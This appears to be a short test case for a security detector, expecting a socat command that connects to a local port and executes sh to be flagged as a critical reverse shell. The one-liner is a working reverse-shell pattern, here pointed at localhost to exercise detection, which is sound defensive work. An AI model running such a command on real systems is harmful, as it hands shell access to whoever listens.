# about: socat becomes the shell
# expect: reverse_shell critical
# needs: python3 socat
peer 4411
timeout 6 socat TCP:127.0.0.1:4411 EXEC:sh,nofork || true
done_typing
